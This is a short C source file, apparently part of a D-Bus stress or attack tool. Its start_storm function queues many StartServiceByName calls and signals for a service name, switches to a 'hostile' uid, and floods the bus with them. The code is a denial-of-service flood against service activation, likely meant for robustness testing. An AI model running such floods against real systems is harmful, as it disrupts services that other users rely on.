/* SPDX-License-Identifier: MIT */
#include "attack.h"

/* Messages without pause to --name, for which the bus has to start a service. */
void start_storm(void *argument)
{
    struct connection c = {0};
    struct buffer out = {0}, body = {0};
    (void)argument;
    if (!attack_options.name)
        attack_options.name = "org.example.Fails";
    buffer_string(&body, attack_options.name);
    buffer_u32(&body, 0);
    for (int i = 0; i < attack_options.count; i++) {
        put_driver_call(&out, "StartServiceByName", "su", &body);
        put_signal(&out, attack_options.name, 16);
    }
    hostile_set_uid();
    attack_join(&c);
    process_ready();
    attack_flood(&c, &out, attack_options.count);
}
